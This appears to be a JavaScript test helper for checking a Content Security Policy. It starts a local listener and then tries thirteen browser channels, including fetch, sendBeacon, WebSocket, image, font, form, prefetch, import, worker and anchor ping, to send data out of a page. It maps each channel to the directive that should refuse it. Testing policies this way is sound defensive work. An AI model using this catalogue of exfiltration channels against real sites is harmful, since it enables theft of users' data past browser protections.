// Ways for a page to get words of a letter out, each tried for real against a server that writes down what arrives.
import { createServer } from "node:http";

/** What arrives at an address that has no business with the page: paths, and upgrades to a socket. */
export async function listener() {
  const arrived = [];
  const server = createServer((request, response) => {
    arrived.push(request.url);
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" }).end();
  });
  server.on("upgrade", (request, socket) => {
    arrived.push(request.url);
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    arrived,
    address: `http://127.0.0.1:${server.address().port}/`,
    close: () =>
      new Promise((resolve) => {
        server.close(resolve);
        server.closeAllConnections();
      }),
  };
}

/** The ways that a policy covers, with the directive that refuses each. */
export const refused = {
  fetch: "connect-src",
  xhr: "connect-src",
  beacon: "connect-src",
  socket: "connect-src",
  events: "connect-src",
  image: "img-src",
  font: "font-src",
  style: "img-src",
  form: "form-action",
  prefetch: "default-src",
  import: "script-src-elem",
  worker: "connect-src",
  ping: "connect-src",
};

/**
 * Runs in the page: tries every way to `address`, each to a path of its own name, and tells which directives were
 * named for which way, and which ways said that they were done. It uses nothing from outside itself.
 */
export async function tryAll(address) {
  const named = {};
  const note = (url, directive) => {
    const way = /\/way-([a-z]+)/u.exec(url)?.[1];
    if (way) (named[way] ??= []).push(directive);
  };
  document.addEventListener("securitypolicyviolation", ({ blockedURI, effectiveDirective }) => note(blockedURI, effectiveDirective));
  const to = (way) => `${address}way-${way}`;
  const add = (name, attributes) => document.body.appendChild(Object.assign(document.createElement(name), attributes));
  const inWorker = `
    addEventListener("securitypolicyviolation", ({ blockedURI, effectiveDirective }) => postMessage([blockedURI, effectiveDirective]));
    fetch(${JSON.stringify(to("worker"))}).catch(() => undefined);`;
  const ways = {
    fetch: () => fetch(to("fetch"), { method: "POST", body: "letter", mode: "no-cors" }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open("POST", to("xhr"));
      request.send("letter");
    },
    beacon: () => navigator.sendBeacon(to("beacon"), "letter"),
    socket: () => new WebSocket(to("socket").replace("http", "ws")),
    events: () => new EventSource(to("events")),
    image: () => (new Image().src = to("image")),
    font: () => new FontFace("letter", `url(${to("font")})`).load(),
    style: () => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background-image: url(${to("style")}) }`);
      document.adoptedStyleSheets.push(sheet);
    },
    form: () => add("form", { action: to("form"), method: "post" }).submit(),
    prefetch: () => add("link", { rel: "prefetch", href: to("prefetch") }),
    import: () => import(to("import")),
    worker: () => {
      const worker = new Worker(URL.createObjectURL(new Blob([inWorker])));
      worker.onmessage = ({ data }) => note(...data);
    },
    ping: () => {
      const link = add("a", { href: "#", ping: to("ping") });
      link.click();
    },
  };
  for (const attempt of Object.values(ways)) {
    try {
      await Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, 200))]);
    } catch {
      // Refused on the spot.
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 500));
  return named;
}
